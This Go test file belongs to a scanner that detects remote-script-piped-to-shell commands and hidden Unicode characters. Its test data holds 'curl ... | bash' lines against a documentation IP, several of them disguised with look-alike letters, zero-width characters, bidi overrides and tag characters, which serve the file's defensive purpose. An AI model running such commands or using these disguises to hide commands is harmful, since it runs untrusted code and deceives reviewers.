package scan

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// Look-alike letters, compatibility forms, accents and invisible
// characters do not hide a command; the evidence quotes the line as it is.
func TestRulesSeeThroughConfusables(t *testing.T) {
	pipe := rules[0]
	if pipe.id != "shell.pipe_remote" {
		t.Fatalf("rules[0] is %s", pipe.id)
	}
	for name, line := range map[string]string{
		"fullwidth":         "ｃｕｒｌ -s http://203.0.113.8/i | ｂａｓｈ",
		"cyrillic":          "\u0441url -s http://203.0.113.8/i | b\u0430sh",
		"greek":             "curl -s http://203.0.113.8/i | b\u03b1sh",
		"mathematical bold": "𝐜𝐮𝐫𝐥 -s http://203.0.113.8/i | 𝐛𝐚𝐬𝐡",
		"zero-width inside": "cu\u200brl -s http://203.0.113.8/i | ba\u2060sh",
		"combining accents": "c\u0301url -s http://203.0.113.8/i | bash",
		"look-alike pipe":   "curl -s http://203.0.113.8/i \u2223 bash",
		"after 1 MiB":       strings.Repeat("a ", 1<<19) + "ｃｕｒｌ http://203.0.113.8/i | sh",
	} {
		loc := pipe.re.FindStringIndex(line)
		if loc == nil {
			t.Errorf("%s: no match", name)
			continue
		}
		if loc[0] < 0 || loc[1] > len(line) || loc[0] > loc[1] || !utf8.ValidString(line[loc[0]:loc[1]]) {
			t.Errorf("%s: range %v does not cut the line at characters", name, loc)
		}
	}
	if pipe.re.FindStringIndex("curl -s https://api.example.com/x | jq .") != nil {
		t.Error("jq is not a shell")
	}
}

func TestFoldKeepsASCIIAndMapsBack(t *testing.T) {
	if s, at := fold("curl | sh"); s != "curl | sh" || at != nil {
		t.Fatalf("ASCII changed: %q %v", s, at)
	}
	s, at := fold("ｃurl")
	if s != "curl" || len(at) != len(s)+1 || at[1] != len("ｃ") || at[len(s)] != len("ｃurl") {
		t.Fatalf("%q %v", s, at)
	}
}

// Invisible characters with an honest use are left alone; the same
// characters inside Latin text are found.
func TestHiddenCharsSparesEmojiFlagsAndScripts(t *testing.T) {
	for _, tc := range []struct {
		name, line string
		found      bool
	}{
		{"family emoji", "family 👨\u200d👩\u200d👧 dinner", false},
		{"scotland flag", "🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F tour", false},
		{"persian word", "می\u200cخواهم", false},
		{"bom at start", "\ufeff# Title", false},
		{"zero-width space", "api\u200bkey", true},
		{"joiner between latin", "a\u200dgent", true},
		{"tag text", "hello\U000E0072\U000E0075\U000E006E", true},
		{"tags after a flag", "🏴\U000E0067\U000E0062\U000E007F then\U000E0072", true},
		{"bidi override", "ok \u202eexe.txt", true},
		{"bom mid-line", "a\ufeffb", true},
	} {
		if got := hiddenChars.FindStringIndex(tc.line) != nil; got != tc.found {
			t.Errorf("%s: found %v, want %v", tc.name, got, tc.found)
		}
	}
}

// FuzzFold: the byte map stays within the line, never goes back, and ends
// at the line's length, so evidence can always be sliced from it.
func FuzzFold(f *testing.F) {
	f.Add("ｃｕｒｌ | ｂａｓｈ")
	f.Add("cu\u200brl\U000E0041 é ﬁ 𝐛")
	f.Add("\xff\xfe")
	f.Fuzz(func(t *testing.T, s string) {
		out, at := fold(s)
		if at == nil {
			if out != s {
				t.Fatalf("changed without a map: %q → %q", s, out)
			}
			return
		}
		if len(at) != len(out)+1 || at[len(out)] != len(s) {
			t.Fatalf("map of %d for %d bytes", len(at), len(out))
		}
		for i := 1; i < len(at); i++ {
			if at[i] < at[i-1] || at[i] > len(s) {
				t.Fatalf("map goes back or out at %d: %v", i, at)
			}
		}
		for _, ru := range rules {
			if loc := ru.re.FindStringIndex(s); loc != nil && (loc[0] > loc[1] || loc[1] > len(s)) {
				t.Fatalf("%s: range %v outside %d bytes", ru.id, loc, len(s))
			}
		}
		hiddenChars.FindStringIndex(s)
	})
}
